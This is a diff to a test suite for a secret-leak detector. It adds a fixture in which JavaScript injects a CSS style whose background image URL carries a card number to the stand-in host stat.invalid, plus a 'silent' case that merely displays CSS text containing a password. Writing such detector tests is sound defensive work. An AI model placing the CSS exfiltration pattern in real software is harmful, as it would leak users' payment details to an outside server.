@@ -145,6 +145,13 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a style behind a condition names a picture for a card',
+      files: {
+        'index.js': `exports.paint = cardNumber => { const style = document.createElement('style'); style.textContent = '@media (min-width:1px){body{background:url(https://stat.invalid/' + cardNumber + '.png)}}'; document.head.append(style); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -225,6 +232,12 @@ examine(givesAwaySecrets, {
       when: 'one member of what an action brings is counted',
       files: {
         'index.js': `exports.middleware = store => next => action => { if (action.type === 'cart/add') navigator.sendBeacon('https://stat.invalid/', action.payload.sku); return next(action); };`,
+      },
+    },
+    {
+      when: 'styles with an address are shown to whoever reads them',
+      files: {
+        'index.js': `exports.show = password => { const shown = document.createElement('pre'); shown.textContent = 'body{background:url(https://pictures.invalid/' + password + ')}'; document.body.append(shown); };`,
       },
     },
   ],
